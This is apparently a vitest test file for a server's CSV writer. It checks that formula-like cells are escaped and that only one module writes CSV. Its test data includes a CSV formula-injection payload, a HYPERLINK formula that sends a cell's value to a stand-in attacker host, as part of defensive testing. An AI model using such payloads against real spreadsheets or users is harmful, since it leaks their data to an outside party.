import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.ts';

const SRC = join(import.meta.dirname, '..');

function sourceFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) return sourceFiles(path);
    return /\.ts$/.test(entry.name) && !/\.test\.ts$/.test(entry.name) ? [path] : [];
  });
}

describe('CSV', () => {
  it('writes a cell a spreadsheet would run as a formula as text', () => {
    const cells = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', '+1', '-1', '@SUM(A1)', '\tx', '\rx'];
    const body = toCsv(
      ['Cell'],
      cells.map((cell) => [cell]),
    );
    expect(body.startsWith('\uFEFFCell\r\n')).toBe(true);
    expect(body).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")"`);
    for (const cell of ['+1', '-1', '@SUM(A1)']) expect(body).toContain(`\r\n'${cell}\r\n`);
    expect(body).not.toMatch(/\r\n"?[=+\-@\t\r]/);
  });

  it('is the one CSV writer: no other server module stringifies CSV itself', () => {
    const writers = sourceFiles(SRC)
      .filter((file) => /from ['"]csv-stringify/.test(readFileSync(file, 'utf8')))
      .map((file) => relative(SRC, file));
    expect(writers).toEqual(['lib/csv.ts']);
  });
});
